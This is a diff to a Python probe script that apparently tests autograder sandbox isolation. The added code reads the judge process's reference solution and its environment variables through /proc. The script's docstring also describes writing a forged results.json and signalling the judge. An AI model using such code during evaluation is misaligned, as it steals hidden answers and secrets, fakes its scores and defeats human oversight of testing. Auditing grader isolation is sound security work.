@@ -2,7 +2,7 @@
 one the judge's command line names), reads the reference, the hidden checks, the results and
 Gradescope's metadata, writes a results.json of its own, phones home, and signals the judge.
 It prints a SNOOP-GOT line for each attempt that worked, then one SNOOP-NO line naming those
-that did not, and answers with the reference's rope_frequencies when it could read it (else
+refused (not those of paths that do not exist), and answers with the reference's rope_frequencies when it could read it (else
 zeros)."""
 import os
 import signal
@@ -14,7 +14,8 @@ DONE, REFUSED = [], []
 
 
 def roots():
-    """/autograder, and every folder named on a command line beside "autograde"."""
+    """/autograder, and every folder named on a command line beside "autograde" (the judge's),
+    with the judge's own view of them: its working folder and its root, through /proc."""
     found = {"/autograder"}
     for pid in filter(str.isdigit, os.listdir("/proc")):
         try:
@@ -22,7 +23,11 @@ def roots():
         except OSError:
             continue
         if any("autograde" in word for word in words):
-            found.update(word for word in words if word.startswith("/") and os.path.isdir(f"{word}/source"))
+            named = [word for word in words if word.startswith("/") and os.path.isdir(f"{word}/source")]
+            found.update(named + [f"/proc/{pid}/root{word}" for word in named[:1] if not found - {"/autograder"}])
+            attempt(f"read /proc/{pid}/cwd/reference/lab2/positions.py",
+                    lambda pid=pid: open(f"/proc/{pid}/cwd/reference/lab2/positions.py").read())
+            attempt(f"read /proc/{pid}/environ", lambda pid=pid: open(f"/proc/{pid}/environ").read())
     return sorted(found)
 
 
@@ -31,6 +36,8 @@ def attempt(what, action):
         got = action()
         print(f"SNOOP-GOT {what}: {str(got)[:80]!r}")
         return got
+    except FileNotFoundError:       # not there: not worth a word
+        return None
     except Exception as error:
         REFUSED.append(f"{what} ({type(error).__name__})")
         return None
